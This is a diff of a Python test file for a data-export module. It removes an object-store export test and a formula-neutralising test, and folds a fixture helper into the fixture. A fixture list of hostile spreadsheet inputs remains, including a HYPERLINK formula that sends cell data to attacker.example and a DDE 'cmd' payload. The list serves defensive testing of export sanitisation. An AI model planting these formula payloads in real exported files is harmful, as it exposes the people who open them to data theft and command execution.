@@ -18,13 +18,11 @@ import pyarrow as pa
 import pytest
 
 from flows.export.export import Format, export
-from flows.export.sheet import safe
 from schemas.catalog import BY_NAME
 from schemas.conform import conform
 from schemas.errors import BadInput, LakeError, UnknownName
 from tasks.lake import scan
 from tasks.lake.lake import Change, Lake
-from tests.tasks.lake.object_store import BUCKET, serving
 
 HOSTILE = ['=HYPERLINK("https://attacker.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
 HOSTILE += ["\tindented by a tab", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1"]
@@ -93,11 +91,7 @@ NAMES = [("country:US", "United States"), ("org:kelby-mills", "Kelby Mills"), ("
 @pytest.fixture(scope="module")
 def lake(tmp_path_factory: pytest.TempPathFactory) -> Lake:
     """A lake with hostile titles and money of every kind."""
-    return filled(Lake.open(tmp_path_factory.mktemp("export") / "lake"))
-
-
-def filled(made: Lake) -> Lake:
-    """The lake with these rows in it."""
+    made = Lake.open(tmp_path_factory.mktemp("export") / "lake")
     mentions = [
         {"article_id": "a00", "published_at": DAYS[0], "start": n, "end": n + 1, "surface": "x", "label": "ORG"}
         | {"entity_id": identity, "name": name}
@@ -111,24 +105,6 @@ def filled(made: Lake) -> Lake:
 def written(lake: Lake, table: str, form: Format, out: Path, **narrowed: Any) -> dict[str, Any]:
     """What export tells, with no bounds unless they are given."""
     return export(lake, table, form, str(out), **({"since": None, "until": None, "addable": False} | narrowed))
-
-
-@pytest.mark.parametrize("form", ["csv", "jsonl", "ftm", "parquet"])
-def test_a_lake_in_an_object_store_is_exported_as_one_in_a_folder(lake: Lake, tmp_path: Path, form: Format) -> None:
-    with serving():
-        written(filled(Lake.open(f"s3://{BUCKET}/export")), "money", form, tmp_path / "there")
-    written(lake, "money", form, tmp_path / "here")
-    if form == "parquet":
-        assert pd.read_parquet(tmp_path / "there").equals(pd.read_parquet(tmp_path / "here"))
-    else:
-        there, here = ((tmp_path / name).read_bytes().splitlines() for name in ("there", "here"))
-        assert there == here
-        assert len(there) > 3
-
-
-@pytest.mark.parametrize("of", [pa.string(), pa.large_string()])
-def test_no_kind_of_text_begins_a_formula(of: pa.DataType) -> None:
-    assert safe(pa.table({"x": pa.array(["=1", "1"], of)}))["x"].to_pylist() == ["'=1", "1"]
 
 
 def cells(path: Path, sheet: int = 1) -> list[list[tuple[str, str]]]:
